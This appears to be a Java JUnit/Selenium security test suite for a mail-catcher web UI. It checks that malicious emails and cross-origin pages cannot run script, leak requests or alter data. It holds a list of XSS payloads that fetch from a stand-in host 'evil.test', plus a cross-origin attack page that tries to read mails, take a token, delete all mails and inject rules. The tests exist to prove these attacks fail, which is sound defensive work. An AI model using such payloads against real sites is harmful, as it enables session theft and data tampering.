package io.github.smtpjunit.relay.cli;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse.BodyHandlers;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.openqa.selenium.By;
import org.openqa.selenium.WebElement;

/**
 * Mails that try to run, to load or to send something in the page, and pages of others that try to read or to delete.
 */
class CatcherPageSafetyTests extends CatcherPageTestCase {

    private static final String EVIL = "http://evil.test/";

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>top.document.title='ran';fetch('@/s')</script>",
                "<img src=x onerror=\"top.hacked=1;new Image().src='@/e'\">",
                "<svg onload=\"fetch('@/v')\"><image href='@/vi'/><script>fetch('@/vs')</script></svg>",
                "<meta http-equiv=refresh content='0;url=@/r'>",
                "<base href='@/'><link rel=stylesheet href='@/c.css'><style>@import '@/i'; p{background:url(@/b)}</style><p>x",
                "<form action='@/form' method=post><input name=q value=1><button>go</button></form>",
                "<a href='javascript:fetch(\"@/js\")'>x</a><a href='@/top' target=_top>x</a><a href='@/new' target=_blank>x</a>",
                "<iframe src='@/if'></iframe><iframe srcdoc=\"<img src='@/sd'>\"></iframe><object data='@/ob'></object>",
                "</iframe>\"><script>fetch('@/brk')</script><img src='@/brk2'>",
            })
    void nothingOfAMailRunsOrLeaves(String attack) throws Exception {
        startCatcher();
        int before = browser.requests().size();
        String html = attack.replace("@/", EVIL);
        String line = html.replace("\"", "'");
        sendContent(
                "From: \"" + line + "\" <a@evil.test>\r\nTo: " + line + "\r\nSubject: " + html
                        + "\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n"
                        + html + "\r\n--b\r\nContent-Type: text/html; name=\"" + line
                        + "\"\r\nContent-Disposition: attachment\r\n\r\n" + html + "\r\n--b--\r\n",
                "\"" + line.replace("\\", "") + "\"@example.org");
        try (Client client = capture.connect()) {
            client.say("250", "EHLO evil.test").send("VRFY " + html).expect("");
            client.send(html).expect("5");
        }
        show("#/mails/000001");
        browser.awaitText("#files", "1 attachment");
        assertThat(browser.text("#rows .subject")).isEqualTo(html);
        browser.driver().switchTo().frame(0);
        browser.awaitText("h1", html.substring(0, 5));
        clickAll();
        if (!browser.driver().findElements(By.tagName("iframe")).isEmpty()) {
            browser.driver().switchTo().frame(0);
            clickAll();
        }
        browser.driver().switchTo().defaultContent();
        assertIntact("#/mails/000001");
        show("#/connections/2");
        browser.awaitText("#session", "evil.test");
        assertIntact("#/connections/2");

        assertThat(browser.driver().getWindowHandles()).hasSize(1);
        assertThat(browser.requests().subList(before, browser.requests().size()))
                .isEmpty();
    }

    private void clickAll() {
        browser.run("""
                document.querySelectorAll('a:not([download])').forEach(e => e.click());
                document.querySelectorAll('form').forEach(f => f.submit())""");
    }

    private void assertIntact(String place) {
        assertThat(browser.driver().getCurrentUrl()).isEqualTo(origin() + "/" + place);
        assertThat(
                        browser.run(
                                "return [window.hacked, document.title === 'ran', document.scripts.length,"
                                        + " document.querySelectorAll('main :is(svg, form:not(#search, #rule), img, style, base, meta, link, object)').length]"))
                .as("in the page itself")
                .isEqualTo(Arrays.asList(null, false, 1L, 0L));
    }

    /** Without the walls, the recording shows a request: the test above could fail. */
    @Test
    void aPageWithoutWallsIsSeenToLeak() throws Exception {
        startCatcher();
        browser.serve(EVIL, "<script>fetch('http://evil.test/leak')</script>");
        browser.driver().get(EVIL);
        browser.awaitResult("return document.readyState", "complete");

        assertThat(String.join("\n", browser.requests())).contains("evil.test/leak");
    }

    @Test
    void marksOfDirectionAndControlsAreShownByTheirNames() throws Exception {
        startCatcher();
        sendContent("From: a@b.c\r\nSubject: =?utf-8?q?invoice=E2=80=AEfdp.exe?=\r\n\r\nx\r\n", "ada@example.org");
        show("");
        awaitSubjects("invoiceU+202Efdp.exe");
    }

    /** What a page of another origin tries. Each attempt ends with what it got. */
    private static final String ATTEMPTS = """
            <form id=form method=post enctype=text/plain action='@/api/rules'><input name='{"rule":"rcpt=close","x":"' value='"}'></form>
            <iframe name=sink></iframe><iframe id=page src='@/'></iframe><iframe id=mail src='@/api/mails/000001/page'></iframe>
            <script>
            const loads = (name, attributes) => new Promise(resolve => {
              const element = Object.assign(document.createElement(name), attributes);
              element.onload = () => resolve('loaded'); element.onerror = () => resolve('refused');
              document.body.append(element);
            });
            const asks = async (path, options) => {
              try { return (await (await fetch('@' + path, options)).text()) || 'nothing'; } catch { return 'refused'; }
            };
            window.attempt = async () => ({
              read: await asks('/api/mails'),
              readBlindly: await asks('/api/mails', {mode: 'no-cors'}),
              readWithCookies: await asks('/api/mails/000001/raw', {credentials: 'include'}),
              token: await asks('/api/token'),
              remove: await asks('/api/mails?all=true', {method: 'DELETE'}),
              removeBlindly: await asks('/api/mails/000001', {method: 'POST', mode: 'no-cors', body: '{"unread":false}'}),
              addRule: await asks('/api/rules', {method: 'POST', mode: 'no-cors', body: '{"rule":"rcpt=close"}'}),
              script: await loads('script', {src: '@/api/mails'}),
              ourScript: await loads('script', {src: '@/catcher.js', type: 'module'}),
              picture: await loads('img', {src: '@/icon.svg'}),
              style: await loads('link', {rel: 'stylesheet', href: '@/catcher.css'}),
              events: await new Promise(resolve => {
                const events = new EventSource('@/api/events');
                events.onerror = () => resolve('refused'); events.addEventListener('changed', () => resolve('loaded'));
              }),
              form: (document.getElementById('form').target = 'sink', document.getElementById('form').submit(), 'sent'),
            });
            </script>""";

    @Test
    void aPageOfAnotherMachineGetsNothing() throws Exception {
        startCatcher();
        browser.serve(EVIL + "attack", ATTEMPTS.replace("@", origin()));
        tryAll(EVIL + "attack");
    }

    /** For a browser, all ports of a machine are one site. */
    @Test
    void aPageOfAnotherPortOfThisMachineGetsNothing() throws Exception {
        startCatcher();
        HttpServer other = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        byte[] page = ATTEMPTS.replace("@", origin()).getBytes(UTF_8);
        other.createContext("/", exchange -> {
            exchange.getResponseHeaders().set("Content-Type", "text/html");
            exchange.sendResponseHeaders(200, page.length);
            exchange.getResponseBody().write(page);
            exchange.close();
        });
        other.start();
        try {
            tryAll("http://127.0.0.1:" + other.getAddress().getPort() + "/");
        } finally {
            other.stop(0);
        }
    }

    private void tryAll(String place) throws Exception {
        send("secret", "ada@example.org");
        browser.driver().get(place);
        Map<?, ?> got = (Map<?, ?>) Objects.requireNonNull(browser.driver()
                .executeAsyncScript(
                        "const done = arguments[0]; window.attempt().then(done, e => done({failed: String(e)}))"));

        assertThat(got).hasSize(13);
        got.forEach((what, result) -> assertThat(String.valueOf(result))
                .as("what the page got by %s", what)
                .isIn("refused", "nothing", "sent"));
        for (String frame : List.of("page", "mail")) {
            WebElement element = browser.driver().findElement(By.id(frame));
            browser.driver().switchTo().frame(element);
            assertThat(browser.text("body")).as(frame).doesNotContain("secret", "Mail catcher");
            browser.driver().switchTo().defaultContent();
        }
        assertThat(ask("/api/mails")).contains("\"total\": 1", "\"unread\": true");
        assertThat(ask("/api/rules")).contains("{\"rules\": []}");
    }

    private String ask(String path) throws IOException, InterruptedException {
        return HttpClient.newHttpClient()
                .send(HttpRequest.newBuilder(URI.create(origin() + path)).build(), BodyHandlers.ofString())
                .body();
    }
}
